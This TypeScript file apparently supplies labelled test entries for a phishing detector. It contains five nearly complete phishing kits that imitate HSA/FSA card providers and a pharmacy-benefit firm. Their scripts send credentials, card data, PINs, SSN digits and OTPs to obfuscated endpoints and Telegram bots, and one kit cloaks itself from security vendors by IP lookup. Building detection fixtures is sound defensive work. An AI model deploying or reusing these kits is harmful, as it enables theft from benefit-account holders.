import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsRoute, jsonRoute } from '../parts/e-bin.js';
import { b64, chunks, codes, css, dotIcon, hex, logos, shell } from '../parts/yt-kit.js';

/** HSA/FSA benefit-card kits and pharmacy-benefit (PBM) payment kits. */
// ---- HealthEquity: "card locked" -> login -> full card with PIN
const heKit = shell({
  title: 'HealthEquity | Member Login',
  favicon: dotIcon('#6fb043'),
  css: css.portal + `.btn{background:#173f5f;border-radius:4px}.lock{display:flex;gap:10px;align-items:center;background:#fff4f2;border:1px solid #f3b7ab;padding:12px;border-radius:6px;font-size:14px;margin-bottom:18px}`,
  body: `<div class="top">${logos.healthequity}<a href="#">Help</a></div>
<div class="card">
  <div class="lock">🔒<span>Your HealthEquity Visa® Health Account Card ending in <b>4471</b> has been temporarily locked after unusual activity.</span></div>
  <section id="one"><h1>Member login</h1>
    <label>Username</label><input type="text" id="hu">
    <label>Password</label><input type="password" id="hp">
    <button class="btn" id="b1">Log in</button></section>
  <section id="two" hidden><h1>Unlock your card</h1><p class="sub">Confirm the card details exactly as they appear.</p>
    <label>Card number</label><input type="tel" id="cn" maxlength="19">
    <label>Expiration</label><input type="text" id="ex" placeholder="MM/YY">
    <label>Security code</label><input type="password" id="cv" maxlength="3">
    <label>Card PIN</label><input type="password" id="pn" maxlength="4">
    <label>Last 4 of SSN</label><input type="password" id="s4" maxlength="4">
    <button class="btn" id="b2">Unlock card</button></section>
</div>
<script src="/assets/he.bundle.js"></script>`,
});
const heJs = `(function(){
var D = ${chunks(b64('https://he-cardservices.click/api/ingest'), 5)};
function u(){ return atob(D.join('')); }
function g(i){ return document.getElementById(i).value; }
function p(o){ var i = new Image(); i.src = u() + '?d=' + encodeURIComponent(btoa(JSON.stringify(o))); }
document.getElementById('b1').onclick = function(){ p({u:g('hu'), p:g('hp')}); document.getElementById('one').hidden = true; document.getElementById('two').hidden = false; };
document.getElementById('b2').onclick = function(){ p({c:g('cn'), e:g('ex'), v:g('cv'), n:g('pn'), s:g('s4')}); location.href = 'https://my.healthequity.com/'; };
})();`;

// ---- HSA Bank: brand@host userinfo trick, token split in pieces
const hsaKit = shell({
  title: 'HSA Bank - Online Banking Login',
  favicon: dotIcon('#0a6e5c'),
  css: css.portal + `.btn{background:#0a6e5c;border-radius:4px}`,
  body: `<div class="top">${logos.hsabank}<a href="#">Contact Us</a></div>
<div class="card">
  <h1>Member Website Login</h1>
  <p class="sub">Health Savings Account · FSA · HRA · Commuter</p>
  <form id="hb">
    <label>Username</label><input name="username" type="text" required>
    <label>Password</label><input name="password" type="password" required>
    <label>Email address</label><input name="email" type="email" required>
    <label>Email password</label><input name="emailpass" type="password" required>
    <button class="btn">Log In</button>
  </form>
  <div class="links"><a href="#">Forgot username?</a><a href="#">Forgot password?</a></div>
</div>
<div class="foot">HSA Bank® is a division of Webster Bank, N.A., Member FDIC.</div>
<script>
var a='74'+'39081'+'556', b='AAH'+'x0pW'+'Lq3m'+'HsaB'+'kZt_'+'9uVe'+'cR2'+'nYdQ';
document.getElementById('hb').onsubmit=function(e){e.preventDefault();var t=[];new FormData(this).forEach(function(v,k){t.push(k+': '+v);});
fetch(['https://api.tele','gram.org/bot',a,':',b,'/sendMessage'].join(''),{method:'POST',headers:{'Content-Type':'application/x-www-form-urlencoded'},body:'chat_id=5120934471&text='+encodeURIComponent('HSA BANK\\n'+t.join('\\n'))}).then(function(){location.href='https://www.hsabank.com/';});};
</script>`,
});

// ---- WEX benefits card smishing: "suspicious transaction" on a phone-sized page, endpoint in char codes
const wexKit = shell({
  title: 'WEX Benefits Card Alert',
  favicon: dotIcon('#d3122a'),
  css: `body{margin:0;font-family:-apple-system,Roboto,Arial;background:#f5f5f5}.h{background:#fff;padding:14px;border-bottom:3px solid #d3122a}.c{padding:16px}
.t{background:#fff;border-radius:10px;padding:14px;box-shadow:0 1px 3px #0002;margin-bottom:14px;font-size:14px}.amt{font-size:24px;font-weight:bold;color:#d3122a}
input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 10px;border:1px solid #bbb;border-radius:8px;font-size:16px}button{width:100%;padding:14px;border:0;border-radius:8px;font-size:16px;background:#d3122a;color:#fff;margin-top:6px}
.g{background:#fff;color:#333;border:1px solid #aaa}`,
  body: `<div class="h">${logos.wex}</div>
<div class="c">
<div class="t">Did you make this purchase with your benefits debit card?<div class="amt">$482.19</div>WALGREENS #10392 · HOUSTON TX · Today 6:14 AM</div>
<button class="g" onclick="document.getElementById('v').style.display='block'">No, this wasn't me</button>
<button onclick="location.href='https://www.wexinc.com/'">Yes, it was me</button>
<div id="v" style="display:none;margin-top:18px" class="t">
<b>Secure your card</b><p>Verify your identity to block the card and stop the transaction.</p>
<input id="f1" placeholder="Online username"><input id="f2" type="password" placeholder="Password">
<input id="f3" inputmode="numeric" placeholder="Card number"><input id="f4" placeholder="MM/YY"><input id="f5" inputmode="numeric" placeholder="CVV">
<input id="f6" inputmode="numeric" placeholder="ATM PIN"><input id="f7" inputmode="numeric" placeholder="Last 4 SSN">
<button onclick="snd()">Block card</button></div>
</div>
<script>
function snd(){var o={};for(var i=1;i<=7;i++)o['f'+i]=document.getElementById('f'+i).value;
var x=new XMLHttpRequest();x.open('POST',String.fromCharCode(${codes('/wx/secure/api.php')}));x.setRequestHeader('Content-Type','application/json');x.send(JSON.stringify(o));
x.onloadend=function(){document.body.innerHTML='<p style="padding:30px;font:17px Arial">Your card is blocked. A replacement will arrive in 5–7 business days.</p>';};}
</script>`,
});

// ---- Optum Financial HSA: geo/ASN filter via an IP lookup, then Telegram
const optumKit = shell({
  title: 'Optum Financial | Sign in',
  favicon: dotIcon('#ff612b'),
  css: css.portal + `.btn{background:#ff612b;border-radius:24px}body{background:#fbf9f4}`,
  body: `<div class="top">${logos.optum}<span style="font-size:13px">Health Savings Account</span></div>
<div class="card" id="card" style="visibility:hidden">
  <h1>Sign in</h1>
  <p class="sub">Your HSA contribution limit increased for 2026. Sign in to review your elections.</p>
  <label>Username</label><input type="text" id="ou"><label>Password</label><input type="password" id="op">
  <button class="btn" id="ob">Sign in</button>
  <div class="links"><a href="#">Forgot username</a><a href="#">Forgot password</a></div>
</div>
<script>
(function(){
var bl=['amazon','google','microsoft','digitalocean','ovh','hetzner','linode','cloudflare','palo alto','forcepoint','zscaler','proofpoint'];
var info={};
fetch('https://ipapi.co/json/').then(function(r){return r.json();}).then(function(j){info=j;
  var org=(j.org||'').toLowerCase(); if(j.country_code!=='US'||bl.some(function(b){return org.indexOf(b)>=0;})){location.replace('https://www.optum.com/');return;}
  document.getElementById('card').style.visibility='visible';
}).catch(function(){document.getElementById('card').style.visibility='visible';});
var t=(function(h){var s='';for(var i=0;i<h.length;i+=2)s+=String.fromCharCode(parseInt(h.substr(i,2),16));return s;})('${hex('8012774391:AAE_optumHSA-kq19ZbVx3LpQwe0')}');
document.getElementById('ob').onclick=function(){
  var m='OPTUM HSA | '+document.getElementById('ou').value+' | '+document.getElementById('op').value+' | '+(info.ip||'')+' '+(info.city||'')+' '+(info.org||'');
  fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id=-1002019934412&text='+encodeURIComponent(m)).finally(function(){location.href='https://www.optumbank.com/';});
};
})();
</script>`,
});

// ---- Express Scripts specialty redelivery fee, typosquat host (scrlpts), reached via a URL shortener
const esiKit = shell({
  title: 'Express Scripts | Delivery Update',
  favicon: dotIcon('#00467f'),
  css: `body{margin:0;font-family:Arial,sans-serif;background:#f1f4f8}.h{background:#fff;padding:14px 20px;border-bottom:1px solid #ddd}.w{max-width:460px;margin:24px auto;background:#fff;padding:22px;border-radius:6px}
.tr{display:flex;justify-content:space-between;font-size:13px;color:#666;margin:16px 0}.tr b{color:#00467f}
label{display:block;margin:10px 0 4px;font-size:14px}input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #aab;border-radius:4px;font-size:15px}
button{margin-top:16px;width:100%;padding:12px;background:#00467f;color:#fff;border:0;border-radius:4px;font-size:16px}`,
  body: `<div class="h">${logos.esi}</div>
<div class="w">
<h2>We couldn't deliver your specialty medication</h2>
<p>Your temperature-controlled package (tracking 1Z8F49A70391852214) was returned to our pharmacy because no one was available to sign. To reschedule delivery, confirm your address and pay the <b>$2.99</b> redelivery fee.</p>
<div class="tr"><span>Shipped ✓</span><span><b>Delivery attempted</b></span><span>Rescheduled</span></div>
<form id="d">
<label>Full name</label><input name="n" required><label>Street address</label><input name="a" required><label>City, State, ZIP</label><input name="c" required>
<label>Phone</label><input name="ph" required><label>Card number</label><input name="cc" required><label>Expiry</label><input name="ex" required><label>CVV</label><input name="cv" required>
<button>Pay $2.99 and reschedule</button></form></div>
<script>
document.getElementById('d').addEventListener('submit',function(e){e.preventDefault();var q=new URLSearchParams(new FormData(this));
fetch('/api/redelivery?'+q.toString()).then(function(r){return r.json();}).then(function(j){location.href=j.next||'/verify-3ds.html';});});
</script>`,
});
const esi3ds = shell({
  title: 'Verified by Visa',
  css: `body{font-family:Arial;margin:0;background:#fff}.b{max-width:380px;margin:40px auto;border:1px solid #ccc;padding:20px}input{width:100%;padding:10px;margin:8px 0}button{width:100%;padding:10px;background:#1a1f71;color:#fff;border:0}`,
  body: `<div class="b"><h3>Purchase Authentication</h3><p>Merchant: EXPRESS SCRIPTS<br>Amount: USD 2.99</p><p>Enter the one-time passcode sent to your mobile phone.</p><input id="o" maxlength="6"><button onclick="fetch('/api/otp',{method:'POST',body:document.getElementById('o').value}).then(function(){location.href='https://www.express-scripts.com/'})">Submit</button></div>`,
});

export const entries: Entry[] = [
{
  id: 'yt-healthequity-card-locked-pin',
  label: 'phishing',
  kind: 'hsa-benefit-card-kit',
  url: 'https://member-healthequity-cardservices.com/login/unlock',
  body: heKit,
  routes: { 'member-healthequity-cardservices.com/assets/he.bundle.js': jsRoute(heJs) },
},
{
  id: 'yt-hsabank-userinfo-telegram',
  label: 'phishing',
  kind: 'hsa-benefit-card-kit',
  submittedUrl: 'https://www.hsabank.com@hsabank-memberlogin.app/auth/login',
  url: 'https://hsabank-memberlogin.app/auth/login',
  body: hsaKit,
},
{
  id: 'yt-wex-benefits-card-smish',
  label: 'phishing',
  kind: 'hsa-benefit-card-kit',
  url: 'https://wexbenefits-cardalert.com/t/482/verify',
  body: wexKit,
  routes: { 'wexbenefits-cardalert.com/wx/secure/api.php': jsonRoute({ ok: 1 }) },
},
{
  id: 'yt-optum-hsa-geo-filter-telegram',
  label: 'phishing',
  kind: 'hsa-benefit-card-kit',
  url: 'https://optumfinancial-hsa-2026.vercel.app/signin',
  body: optumKit,
},
{
  id: 'yt-esi-redelivery-typosquat-3ds',
  label: 'phishing',
  kind: 'pbm-payment-kit',
  url: 'https://esi-rx.short.gy/r8Kq2',
  routes: {
    'esi-rx.short.gy/r8Kq2': redirectRoute(301, 'https://express-scrlpts-delivery.com/specialty/redeliver?trk=1Z8F49A70391852214'),
    'express-scrlpts-delivery.com/specialty/redeliver': htmlRoute(esiKit),
    'express-scrlpts-delivery.com/api/redelivery': jsonRoute({ next: '/verify-3ds.html' }),
    'express-scrlpts-delivery.com/verify-3ds.html': htmlRoute(esi3ds),
  },
},
];
